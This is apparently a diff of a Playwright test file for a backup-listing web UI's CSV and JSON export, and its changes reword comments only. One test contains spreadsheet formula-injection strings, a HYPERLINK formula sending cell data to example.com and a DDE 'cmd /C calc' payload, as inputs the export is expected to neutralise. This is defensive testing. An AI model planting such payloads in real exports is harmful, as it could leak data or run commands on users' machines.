@@ -8,12 +8,12 @@ const COLUMNS = [
   'updated_at', 'availability_zone', 'container', 'snapshot_id', 'has_dependent_backups', 'description', 'project_id', 'user_id',
   'encryption_key_id', 'metadata', 'as_of', 'extent', 'filters', 'unreadable',
 ];
-/** What the service says of a backup, by the name of a column. */
+/** The service's name for a column, if it differs. */
 const KEYS = { project_id: 'os-backup-project-attr:project_id' };
 const TIMES = ['data_timestamp', 'created_at', 'updated_at'];
 const OWN = COLUMNS.slice(0, -4);
 
-/** RFC 4180, and nothing beside it: records end in CRLF, quotes stand around whole cells, and in them only doubled. */
+/** Strict RFC 4180: records end in CRLF, quotes enclose whole cells, and inside them they are doubled. */
 function readCsv(text, delimiter = ',') {
   const records = [[]];
   const plain = delimiter === ',' ? /[^",\r\n]*/y : /[^";\r\n]*/y;
@@ -46,7 +46,7 @@ function readCsv(text, delimiter = ',') {
   return records;
 }
 
-/** What is saved when `act` is done: its name and its text, byte order mark and all. */
+/** The name and text of the file saved by `act`, including the byte order mark. */
 async function saved(page, act) {
   const [download] = await Promise.all([page.waitForEvent('download'), act()]);
   return { name: download.suggestedFilename(), text: (await readFile(await download.path())).toString('utf8') };
@@ -59,7 +59,7 @@ async function save(page, name) {
   });
 }
 
-/** A CSV file's rows as objects; a cell without anything, not even quotes, is null. */
+/** A CSV file's rows as objects; an empty cell without quotes is null. */
 function tableOf({ text }, delimiter) {
   expect(text.startsWith('\ufeff')).toBe(true);
   const [head, ...records] = readCsv(text.slice(1), delimiter);
@@ -69,29 +69,29 @@ function tableOf({ text }, delimiter) {
   return records.map((record) => Object.fromEntries(record.map((read, place) => [COLUMNS[place], value(read)])));
 }
 
-/** What the volumes are called, by their ids. */
+/** The names of the volumes, by id. */
 const named = new Map();
 test.beforeEach(async ({ demo }) => {
   for (const where of [{}, LARGE]) for (const [id, { name }] of await demo.volumes(where)) named.set(id, name);
 });
 
-/** Technical details of a backup, by a file's names. Times are moments. */
+/** Technical details of a backup, by a file's names. Times are normalised. */
 function fields(row, names = OWN) {
   const value = (name) => {
     const given = (name === 'volume_name' ? (row[name] ?? named.get(row.volume_id)) : row[KEYS[name] ?? name]) ?? null;
-    // No metadata is no metadata, whether there is nothing or nothing in it.
+    // Empty metadata counts as no metadata.
     if (name === 'metadata') return given && Object.keys(given).length > 0 ? given : null;
     return TIMES.includes(name) ? (moment(given) ?? null) : given;
   };
   return Object.fromEntries(names.map((name) => [name, value(name)]));
 }
 
-/** What a spreadsheet would run: a number with its sign is none. */
+/** What a spreadsheet would evaluate; a signed number is safe. */
 const LEADS = /^[\s\ufeff\0]*([=@＝＋－＠]|[+-](?![\d ,.]*$))/;
-/** Without the apostrophe that keeps a spreadsheet from running a text: whatever begins with one has got one more. */
+/** Without the apostrophe that keeps a spreadsheet from evaluating a text: a text that begins with one gets another. */
 const unguarded = (cell) => cell.replace(/^'/, '');
 
-/** The CSV file has exactly these backups, each with all that the service said of it. */
+/** The CSV file contains exactly these backups, with everything the service returned. */
 function expectCsv(file, backups, { extent, filters, delimiter }) {
   const records = tableOf(file, delimiter);
   const read = (name, cell) => {
@@ -202,7 +202,7 @@ test('no cell of a spreadsheet is run, and no text is lost', async ({ page, demo
   const cells = readCsv(csv.text.slice(1)).flat().map(({ cell }) => cell);
   expect(cells).toContain("'=HYPERLINK(\"http://example.com/?\"&A1,\"x\")");
   expect(cells.filter((cell) => LEADS.test(cell))).toEqual([]);
-  // Nothing is changed inside a text, nor in front of a number.
+  // Nothing is changed inside a text, or before a number.
   for (const name of ['a;=1;b', 'a\r\n+1', "nightly;=cmd|' /C calc'!A0", '-5', '+49 170 1234']) expect(cells).toContain(name);
   expectJson(await save(page, 'This page as JSON'), backups, { extent: 'page 1', filters: '' });
 });
@@ -266,7 +266,7 @@ test('thirty thousand backups are in one file', async ({ page, demo }) => {
   expect(unlike(tableOf(csv), backups)).toBe(-1);
 });
 
-/** Where two long lists of backups are not the same; -1 where they are. To show the difference would take minutes. */
+/** Where two long lists of backups differ; -1 if they do not. Showing the difference would take minutes. */
 function unlike(some, others) {
   if (some.length !== others.length) return Math.min(some.length, others.length);
   return some.findIndex(({ id }, place) => id !== others[place].id);
@@ -340,7 +340,7 @@ test.describe('since the last visit', () => {
   const numbers = async (page) => Object.fromEntries(await Promise.all(NUMBERS.map(async (name) => [name, Number(await figures(page, name).textContent())])));
   const kept = (page) => page.evaluate(() => Object.fromEntries(Object.keys(localStorage).filter((key) => /seen|visit/.test(key)).map((key) => [key.split(':')[1], localStorage[key].slice(0, 29)])));
 
-  /** As if what this browser saw last had been seen some hours ago. */
+  /** Makes the stored state of the last visit some hours older. */
   async function age(page, count) {
     await expect.poll(async () => Object.keys(await kept(page))).toContain('seen');
     await page.evaluate(
@@ -372,7 +372,7 @@ test.describe('since the last visit', () => {
     await expect(part(page).getByRole('link', { name: 'fresh and broken' })).toBeVisible();
     await expect(part(page).locator('code')).toHaveText([gone]);
 
-    // A reload goes on with the same visit.
+    // A reload continues the same visit.
     await page.reload();
     await expect(part(page)).toContainText(/UTC, [45] h ago\./);
     expect(await numbers(page)).toEqual(expected);
